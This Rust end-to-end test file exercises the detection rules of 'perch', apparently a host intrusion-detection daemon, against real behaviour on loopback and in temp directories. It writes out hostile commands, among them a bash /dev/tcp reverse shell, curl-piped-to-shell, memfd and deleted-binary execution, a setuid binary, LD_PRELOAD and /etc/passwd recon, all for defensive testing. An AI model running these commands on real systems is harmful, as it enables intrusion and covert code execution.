//! Detections against real behaviour: for every built-in rule, the real
//! thing (loopback only, temp dirs) raises its flag with its severity on
//! the right process, and the nearest benign behaviour raises none; a
//! web-server incident rolls up into one notable trace, separate incidents
//! into separate traces; a cargo build and an admin's ps/ss/df stay quiet.
//! One perchd serves every case (CI time); each case runs in its own
//! session (setsid before exec), so each is its own trace root.
#![expect(
    clippy::expect_used,
    reason = "end-to-end tests: a broken environment should fail the test loudly"
)]
use std::{
    collections::HashMap,
    fs,
    io::{Read as _, Write as _},
    net::TcpListener,
    os::unix::{fs::PermissionsExt as _, fs::symlink, process::CommandExt as _},
    path::Path,
    process::{Command, Stdio},
};

use perch_e2e::{
    Perchd, binary,
    flags::{accept_bounded, flag, new_session, run, session, under, wait_for},
    have_root_or_skip,
    procs::{ChildGuard, unique},
};
use perch_proto::v1::{self as pb, Severity};

const PYTHON: &str = "/usr/bin/python3";

/// A one-shot HTTP server on loopback serving `body`.
fn serve_once(body: &'static str) -> (u16, std::thread::JoinHandle<()>) {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    let h = std::thread::spawn(move || {
        for s in l.incoming().take(1) {
            let Ok(mut s) = s else { return };
            let mut buf = [0u8; 1024];
            let _ = s.read(&mut buf);
            let _ = write!(
                s,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, h)
}

/// Writes a loginuid for the child (it must not be root's: a login as root
/// is not what the su/sudo rule reports); ignored where it cannot be set.
fn with_login_uid(cmd: &mut Command) -> &mut Command {
    // SAFETY: only async-signal-safe calls between fork and exec.
    unsafe {
        cmd.pre_exec(|| {
            let path = c"/proc/self/loginuid";
            let fd = libc::open(path.as_ptr(), libc::O_WRONLY);
            if fd >= 0 {
                let v = b"1000";
                libc::write(fd, v.as_ptr().cast(), v.len());
                libc::close(fd);
            }
            Ok(())
        })
    }
}

#[tokio::test(flavor = "multi_thread")]
#[expect(
    clippy::too_many_lines,
    reason = "one perchd serves every case: benign cases, then the real ones, then the checks"
)]
async fn default_rules_on_real_behaviour() {
    if !have_root_or_skip("default_rules_on_real_behaviour") {
        return;
    }
    let perchd = Perchd::start(&[]).await;
    let mut client = perchd.client().await.expect("connect");
    let dir = tempfile::tempdir().expect("tempdir");
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).expect("chmod");
    let d = |name: &str| dir.path().join(name).display().to_string();

    // ---- the nearest benign behaviours first: once the positives below
    // are flagged, perchd has read past these.
    let mut negatives: HashMap<&str, u32> = HashMap::new();
    negatives.insert("reverse_shell", run(&["/bin/bash", "-c", "exit 0"]));
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port().to_string();
    negatives.insert(
        "netcat_listen_or_exec",
        run(&["nc", "-z", "127.0.0.1", &port]),
    );
    negatives.insert(
        "setuid_root_exec",
        run(&[
            "/usr/bin/setpriv",
            "--reuid=nobody",
            "--regid=nogroup",
            "--clear-groups",
            "/usr/bin/mount",
            "--version",
        ]),
    );
    negatives.insert(
        "su_sudo_root_shell",
        run(&["su", "nobody", "-s", "/bin/sh", "-c", "true"]),
    );
    fs::write(d("x.sh"), "echo perch\n").expect("script");
    let cat_pipe = format!("cat {} | sh", d("x.sh"));
    negatives.insert(
        "download_piped_to_shell",
        run(&["/bin/sh", "-c", &cat_pipe]),
    );
    negatives.insert("exec_from_temp", run(&["/bin/true"]));
    negatives.insert("exec_deleted_binary", run(&["/bin/true", "again"]));
    negatives.insert("memfd_exec", run(&[PYTHON, "-c", "pass"]));
    negatives.insert(
        "crypto_miner",
        run(&["/bin/true", "-o", "http://127.0.0.1:3333", "-u", "x"]),
    );
    symlink("/bin/bash", d("myapp")).expect("symlink");
    let recon = "sh -c 'id; uname -a; cat /etc/passwd' >/dev/null; true";
    let benign_app = run(&[&d("myapp"), "-c", recon]);
    negatives.insert("webserver_shell", benign_app);
    negatives.insert("webserver_recon", benign_app);
    negatives.insert(
        "ld_preload",
        run(&["env", "PERCH_NOT_A_LOADER=1", "/bin/true"]),
    );
    negatives.insert(
        "restart_loop",
        run(&["/bin/sh", "-c", "for i in 1 2 3 4 5; do /bin/true; done"]),
    );

    // ---- the real behaviours.
    let rev = session(&[
        "/bin/bash",
        "-c",
        &format!("exec /bin/bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
    ]);
    let mut conn = accept_bounded(&listener);
    let free = TcpListener::bind("127.0.0.1:0").expect("bind");
    let nc_port = free.local_addr().expect("addr").port().to_string();
    drop(free);
    let mut nc = session(&["nc", "-l", "127.0.0.1", &nc_port]);
    let suid = d("suid-sleep");
    fs::copy("/bin/sleep", &suid).expect("copy");
    fs::set_permissions(&suid, fs::Permissions::from_mode(0o4755)).expect("chmod u+s");
    let setuid = run(&[
        "/usr/bin/setpriv",
        "--reuid=nobody",
        "--regid=nogroup",
        "--clear-groups",
        &suid,
        "0",
    ]);
    let mut su = ChildGuard::spawn(
        with_login_uid(new_session(&mut Command::new("su")))
            .args(["root", "-s", "/bin/sh", "-c", "sleep 0; true"])
            .stdin(Stdio::null())
            .stdout(Stdio::null()),
    );
    let su_pid = su.pid();
    tokio::task::block_in_place(|| su.wait());
    let (http, server) = serve_once("echo perch-download\n");
    let curl = run(&[
        "/bin/sh",
        "-c",
        &format!("curl -s http://127.0.0.1:{http}/x.sh | sh"),
    ]);
    let shm = format!("/dev/shm/{}", unique("true"));
    fs::copy("/bin/true", &shm).expect("copy to /dev/shm");
    let tmp = run(&[&shm]);
    fs::remove_file(&shm).expect("rm");
    let gone = d("gone");
    fs::copy("/bin/true", &gone).expect("copy");
    let unlink = format!(
        "import os; fd = os.open({gone:?}, os.O_RDONLY); os.unlink({gone:?}); os.execv(f'/proc/self/fd/{{fd}}', ['gone'])"
    );
    let deleted = run(&[PYTHON, "-c", &unlink]);
    let memfd_py = "import os; fd = os.memfd_create('perch'); os.write(fd, open('/bin/true', 'rb').read()); \
                    os.execv(f'/proc/self/fd/{fd}', ['payload'])";
    let memfd = run(&[PYTHON, "-c", memfd_py]);
    let miner = run(&[
        "/bin/true",
        "-o",
        "stratum+tcp://127.0.0.1:3333",
        "-u",
        "x",
        "--donate-level=1",
    ]);
    symlink("/bin/bash", d("nginx")).expect("symlink");
    let nginx = run(&[&d("nginx"), "-c", recon]);
    let preload = run(&["env", "LD_PRELOAD=/nonexistent/perch-e2e.so", "/bin/true"]);
    let looping = run(&["/bin/sh", "-c", "for i in 1 2 3 4 5; do /bin/false; done"]);

    let flags = wait_for(
        &mut client,
        &[
            ("reverse_shell", rev.pid()),
            ("netcat_listen_or_exec", nc.pid()),
            ("setuid_root_exec", setuid),
            ("su_sudo_root_shell", su_pid),
            ("download_piped_to_shell", curl),
            ("exec_from_temp", tmp),
            ("exec_deleted_binary", deleted),
            ("memfd_exec", memfd),
            ("crypto_miner", miner),
            ("webserver_shell", nginx),
            ("webserver_recon", nginx),
            ("ld_preload", preload),
            ("restart_loop", looping),
        ],
    )
    .await;
    let _ = conn.write_all(b"exit\n");
    let _ = nc.kill();
    let _ = server.join();

    let sev = |rule: &str, pid: u32| flag(&flags, rule, pid).severity();
    assert_eq!(sev("reverse_shell", rev.pid()), Severity::High);
    assert_eq!(
        flag(&flags, "reverse_shell", rev.pid())
            .process
            .map(|k| k.pid),
        Some(rev.pid())
    );
    assert_eq!(sev("netcat_listen_or_exec", nc.pid()), Severity::Medium);
    assert_eq!(sev("setuid_root_exec", setuid), Severity::Medium);
    assert_eq!(
        flag(&flags, "setuid_root_exec", setuid)
            .process
            .map(|k| k.pid),
        Some(setuid)
    );
    assert_eq!(sev("su_sudo_root_shell", su_pid), Severity::Low);
    let piped = flag(&flags, "download_piped_to_shell", curl);
    assert_eq!(
        (piped.severity(), piped.name.as_str()),
        (Severity::Medium, "sh"),
        "{piped:#?}"
    );
    assert_eq!(sev("exec_from_temp", tmp), Severity::Medium);
    assert_eq!(sev("exec_deleted_binary", deleted), Severity::High);
    assert_eq!(sev("memfd_exec", memfd), Severity::Critical);
    assert_eq!(
        flag(&flags, "memfd_exec", memfd).process.map(|k| k.pid),
        Some(memfd)
    );
    assert_eq!(sev("crypto_miner", miner), Severity::Critical);
    assert_eq!(sev("webserver_shell", nginx), Severity::High);
    assert_eq!(sev("ld_preload", preload), Severity::Medium);
    let looped = flag(&flags, "restart_loop", looping);
    assert_eq!(
        (looped.severity(), looped.kind()),
        (Severity::Low, pb::FlagKind::Ops)
    );

    for (rule, pid) in &negatives {
        let hit: Vec<_> = flags
            .iter()
            .filter(|f| f.rule_id == *rule && under(f, *pid))
            .collect();
        assert!(
            hit.is_empty(),
            "benign case of {rule} (pid {pid}) flagged: {hit:#?}"
        );
    }

    // Roll-up: the web-server incident is ONE notable trace holding all
    // of its flags (the shell, the recon commands as one flag with
    // repeats, nginx running from /tmp); the reverse shell is another.
    let traces = client
        .list_traces(pb::ListTracesRequest::default())
        .await
        .expect("ListTraces")
        .into_inner()
        .traces;
    let web: Vec<_> = traces
        .iter()
        .filter(|t| t.root.is_some_and(|k| k.pid == nginx))
        .collect();
    assert_eq!(web.len(), 1, "{traces:#?}");
    let web = web[0];
    let web_flags: Vec<_> = flags
        .iter()
        .filter(|f| under(f, nginx) && !f.excepted)
        .collect();
    assert!(
        web_flags.iter().all(|f| f.trace_id == web.id),
        "{web_flags:#?}"
    );
    assert!(
        web.unique_flag_count >= 2 && web.notable && web.score >= 50,
        "{web:#?}"
    );
    assert_eq!(flag(&flags, "webserver_recon", nginx).repeat_count, 3);
    let rev_trace = &flag(&flags, "reverse_shell", rev.pid()).trace_id;
    assert!(!rev_trace.is_empty() && *rev_trace != web.id);

    // The CLI: the trace as text for a ticket, the flags as JSON lines.
    let perch = |args: &[&str]| {
        let out = Command::new(binary("perch"))
            .arg("--socket")
            .arg(&perchd.socket)
            .args(args)
            .output()
            .expect("run perch");
        assert!(
            out.status.success(),
            "perch {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).expect("utf-8")
    };
    let text = perch(&["trace", &web.id]);
    assert!(
        text.contains(&format!("root: nginx (pid {nginx})")),
        "{text}"
    );
    assert!(
        text.contains("└─ sh (") && text.contains("[high webserver_shell]"),
        "{text}"
    );
    assert!(text.contains("[low webserver_recon x3]"), "{text}");
    let lines = perch(&["flags", "--json", "--min-severity", "critical"]);
    for line in lines.lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("a JSON line");
        assert_eq!(v["severity"], "critical", "{line}");
    }
    assert!(lines.contains("\"memfd_exec\""), "{lines}");
}

/// A cargo build of a fresh crate and an admin's look around raise no flag
/// above low and no notable trace.
#[tokio::test(flavor = "multi_thread")]
async fn builds_and_admin_commands_stay_quiet() {
    if !have_root_or_skip("builds_and_admin_commands_stay_quiet") {
        return;
    }
    let perchd = Perchd::start(&[]).await;
    let mut client = perchd.client().await.expect("connect");
    let dir = tempfile::tempdir().expect("tempdir");
    let krate = dir.path().join("tiny");
    fs::create_dir_all(krate.join("src")).expect("mkdir");
    fs::write(
        krate.join("Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .expect("Cargo.toml");
    fs::write(
        krate.join("src/main.rs"),
        "fn main() { println!(\"hi\"); }\n",
    )
    .expect("main.rs");
    let manifest = krate.join("Cargo.toml").display().to_string();
    let build = run(&[
        "cargo",
        "build",
        "--offline",
        "--quiet",
        "--manifest-path",
        &manifest,
    ]);
    assert!(
        Path::new(&krate.join("target/debug/tiny")).exists(),
        "the build must have run"
    );
    let admin = run(&["/bin/sh", "-c", "ps aux; ss -tan; df -h"]);
    // A sentinel: once it is flagged, perchd has read past the cases above.
    let sentinel = run(&["/bin/true", "-o", "stratum+tcp://127.0.0.1:3333"]);
    let flags = wait_for(&mut client, &[("crypto_miner", sentinel)]).await;
    for pid in [build, admin] {
        let loud: Vec<_> = flags
            .iter()
            .filter(|f| under(f, pid) && !f.excepted && f.severity() > Severity::Low)
            .collect();
        assert!(loud.is_empty(), "quiet case {pid} raised {loud:#?}");
    }
    let traces = client
        .list_traces(pb::ListTracesRequest {
            min_score: 50,
            ..Default::default()
        })
        .await
        .expect("ListTraces")
        .into_inner()
        .traces;
    let notable: Vec<_> = traces
        .iter()
        .filter(|t| t.root.is_some_and(|k| k.pid == build || k.pid == admin))
        .collect();
    assert!(notable.is_empty(), "{notable:#?}");
}
